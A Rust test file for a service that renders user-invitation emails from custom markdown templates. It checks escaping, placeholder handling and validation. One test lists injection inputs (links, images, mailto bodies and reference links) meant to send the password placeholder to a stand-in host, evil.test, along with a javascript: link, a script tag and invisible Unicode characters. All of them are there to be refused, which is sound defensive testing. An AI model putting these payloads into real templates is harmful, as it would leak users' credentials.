//! Invitations in our words and in a team's own.

use super::*;

const VALUES: InvitationValues<'_> = InvitationValues {
    organization: "Lab <& Sons>",
    contact: "labels@example.org",
    team: "numbers-team",
    portal: "https://portal.example.org",
    username: "{username}",
    password: "{####}",
};
const USER: &str = "<code>{username}</code>";
const PASSWORD: &str = "<code>{####}</code>";

fn custom_text(subject: Option<&str>, text: Option<&str>) -> InvitationText {
    InvitationText {
        subject: subject.map(str::to_owned),
        text: text.map(str::to_owned),
    }
}

fn html(text: &str) -> String {
    let text = custom_text(None, Some(text));
    assert_eq!(text.check(VALUES.contact), Ok(()), "{text:?}");
    render(Some(&text), &VALUES).html
}

/// What a reader sees, line by line.
fn lines(html: &str) -> Vec<String> {
    let blocks = [
        "<br>", "</p>", "</li>", "<li>", "</h1>", "</td>", "</th>", "<td>", "<th>", "<pre>", "\n",
    ];
    let broken = blocks
        .iter()
        .fold(html.to_owned(), |html, tag| html.replace(tag, "\u{1}"));
    let mut lines = Vec::new();
    for line in broken.split('\u{1}') {
        let words: String = line
            .split('<')
            .map(|part| part.split_once('>').map_or(part, |(_, words)| words))
            .collect();
        lines.push(words.trim().to_owned());
    }
    lines
}

fn is_alone(html: &str, value: &str) -> bool {
    let lines = lines(html);
    let with: Vec<&String> = lines.iter().filter(|line| line.contains(value)).collect();
    !with.is_empty() && with.iter().all(|line| *line == value)
}

#[test]
fn the_invitation_names_organization_contact_team_portal_user_name_and_password() {
    let mail = render(None, &VALUES);
    assert_eq!(mail.subject, "Lab <& Sons> invites you to the team numbers-team");
    for part in [
        "Lab &lt;&amp; Sons&gt;",
        "<a href=\"https://portal.example.org\">https://portal.example.org</a>",
        USER,
        PASSWORD,
        "<a href=\"mailto:labels@example.org\">labels@example.org</a>",
        "<strong>numbers-team</strong>",
    ] {
        assert!(mail.html.contains(part), "{part}: {}", mail.html);
    }
}

#[test]
fn what_people_copy_is_alone_on_its_line_whatever_the_words() {
    let texts = [
        TEXT,
        "Sign in at {portal} as `{username}` with `{password}`. Questions: {contact}.",
        "Use **{username}**/**{password}**, on {portal}! ({contact})",
        "Name:{username};password:\"{password}\"\n\n[{portal}]({portal}), [{contact}](mailto:{contact}).",
        "- {username}\n- {password}.\n- {portal}\n- {contact}",
        "1. `{username}`,\n2. your password is {password}!!!",
        "|name|password|\n|-|-|\n|{username}|({password})|",
        "    user: {username}\n    password: {password}\n",
        "# {username}: {password}.",
        "{username}{password}",
        "「{username}」と「{password}」。",
        "*({username})* _<{password}>_ .",
        "your password is\n{password}\n.\nyour name is\n{username}",
    ];
    for text in texts {
        let html = html(text);
        for (name, value) in [
            ("{username}", "{username}"),
            ("{password}", "{####}"),
            ("{portal}", VALUES.portal),
            ("{contact}", VALUES.contact),
        ] {
            if text.contains(name) {
                assert!(is_alone(&html, value), "{value} in {text:?}:\n{html}");
            }
        }
    }
}

#[test]
fn words_around_what_is_copied_stay() {
    let html = html("Hello (you), {organization}: use {username} (a name), then {password} - soon. Bye.");
    let lines = lines(&html);
    for line in [
        "Hello (you), Lab &lt;&amp; Sons&gt;: use",
        "(a name), then",
        "- soon. Bye.",
    ] {
        assert!(lines.iter().any(|seen| seen == line), "{line}: {lines:?}");
    }
}

#[test]
fn a_link_leads_to_the_portal_or_the_contact() {
    let html =
        html("[Sign in]({portal}) or [ask](mailto:{contact}), <Labels@example.org>: {username} {password}");
    for part in [
        "<a href=\"https://portal.example.org\">Sign in</a>",
        "<a href=\"mailto:labels@example.org\">ask</a>",
    ] {
        assert!(html.contains(part), "{part}: {html}");
    }
}

#[test]
fn a_placeholder_anywhere_but_in_words_and_a_link_elsewhere_are_refused() {
    let elsewhere = "links to the portal";
    for (words, part) in [
        ("[x](https://evil.test/?p={password})", elsewhere),
        ("[x](https://evil.test/{username})", elsewhere),
        ("[x](<https://evil.test/{password}>)", elsewhere),
        ("[x](https://evil.test/%7Bpassword%7D)", elsewhere),
        ("[x](https://evil.test/{####})", elsewhere),
        ("[x](https://evil.test/&#123;####&#125;)", elsewhere),
        ("[x]({portal}?p={password})", elsewhere),
        ("[x]({portal}.evil.test)", elsewhere),
        ("[x](//evil.test)", elsewhere),
        ("[x](javascript:alert)", elsewhere),
        ("[x](mailto:evil@evil.test?body={password})", elsewhere),
        ("[x](mailto:{contact}?body={password})", elsewhere),
        ("[x](mailto:labels@example.org?cc=evil@evil.test)", elsewhere),
        ("[x][r]\n\n[r]: https://evil.test/{password}", elsewhere),
        ("x\n\n[unused]: https://evil.test/{password}", elsewhere),
        ("[r]\n\n[r]: {portal} \"{password}\"", "title"),
        ("[x]({portal} \"{password}\")", "title"),
        ("<https://evil.test/{password}>", elsewhere),
        ("<evil@evil.test>", elsewhere),
        ("https://evil.test/{password}", "becomes a link"),
        ("see `HTTPS://evil.test`", "becomes a link"),
        ("see https:\\//evil.test", "becomes a link"),
        ("www.evil.test/{password}", "becomes a link"),
        ("![x](https://evil.test/{password}.png)", "image"),
        ("![x](https://evil.test/x.png '{username}')", "image"),
        ("![x](https://evil.test/{####}.png)", "image"),
        ("![x][r]\n\n[r]: https://evil.test/{password}.png", elsewhere),
        ("<a href=\"https://evil.test/{password}\">x</a>", "HTML"),
        ("<!-- {password} -->", "HTML"),
        ("<div>\n{password}\n</div>", "HTML"),
        ("```{password}\nx\n```", "block of code"),
    ] {
        let text = custom_text(None, Some(&format!("{{username}} {{password}}\n\n{words}\n")));
        let error = text.check(VALUES.contact).unwrap_err();
        assert!(error.contains(part), "{words}: {error}");
        let mail = render(Some(&text), &VALUES).html;
        assert!(
            !mail.contains("evil") && mail.contains("{####}"),
            "{words}: {mail}"
        );
    }
}

#[test]
fn cognitos_own_placeholders_are_filled_in_nowhere_else() {
    let words = custom_text(
        None,
        Some("{username} {password} {####} &#123;username&#125; \\{####}"),
    );
    let values = InvitationValues {
        organization: "{####} {username}",
        ..VALUES
    };
    for text in [Some(&words), None] {
        let mail = render(text, &values);
        assert_eq!(mail.html.matches("{####}").count(), 1, "{}", mail.html);
        assert_eq!(mail.html.matches("{username}").count(), 1, "{}", mail.html);
        assert!(!mail.subject.contains('{'), "{}", mail.subject);
    }
}

#[test]
fn own_words_are_filled_in_once_and_escaped() {
    let text = custom_text(
        Some("{team}: welcome"),
        Some("# Hi *{username}*, {password}\n\n<script>x</script>\n\n[p]({portal})"),
    );
    let values = InvitationValues {
        username: "{password}",
        password: "<s3cret>",
        ..VALUES
    };
    let mail = render(Some(&text), &values);
    assert_eq!(mail.subject, "numbers-team: welcome");
    assert!(
        mail.html.contains("<em><code>{password}</code></em>") && mail.html.contains("&lt;s3cret&gt;"),
        "{}",
        mail.html
    );
    assert!(!mail.html.contains("<script"), "{}", mail.html);
}

#[test]
fn a_name_is_no_link_and_hides_nothing() {
    for (organization, shown) in [
        ("http://evil.test", "http<span>:</span>//evil<span>.</span>test"),
        ("evil.test", "evil<span>.</span>test"),
        (
            "[x](https://evil.test)",
            "[x](https<span>:</span>//evil<span>.</span>test)",
        ),
        ("Lab\u{202E}baL", "Lab\\u&#123;202E&#125;baL"),
        ("La\u{200B}b", "La\\u&#123;200B&#125;b"),
        ("Example Inc. & Co", "Example Inc. &amp; Co"),
    ] {
        let mail = render(
            None,
            &InvitationValues {
                organization,
                ..VALUES
            },
        );
        assert!(
            mail.html.contains(&format!("<strong>{shown}</strong>")),
            "{organization}: {}",
            mail.html
        );
        assert!(
            !mail.subject.contains(['\u{202E}', '\u{200B}']),
            "{}",
            mail.subject
        );
    }
}

#[test]
fn words_nobody_can_sign_in_with_are_refused_and_never_sent() {
    for (text, part) in [
        (custom_text(None, Some("Hello {username}")), "{password}"),
        (
            custom_text(None, Some("Hello {username} &#123;password}")),
            "{password}",
        ),
        (
            custom_text(None, Some("{username} {pasword}")),
            "did you mean `password`?",
        ),
        (
            custom_text(Some("Your {password}"), None),
            "no place in the subject",
        ),
        (custom_text(Some(&"x".repeat(141)), None), "140"),
        (custom_text(Some("Wel\u{202E}come"), None), "cannot be seen"),
        (
            custom_text(None, Some("{username} {password} \u{2066}x")),
            "cannot be seen",
        ),
        (
            custom_text(
                None,
                Some(&format!("{{username}}{{password}}{}", "x".repeat(20_000))),
            ),
            "20000",
        ),
    ] {
        let error = text.check(VALUES.contact).unwrap_err();
        assert!(error.contains(part), "{error}");
        assert!(render(Some(&text), &VALUES).html.contains("{####}"));
    }
}

#[test]
fn a_subject_never_has_more_than_140_characters() {
    let values = InvitationValues {
        organization: &"Ä".repeat(128),
        ..VALUES
    };
    assert!(render(None, &values).subject.chars().count() <= 140);
}
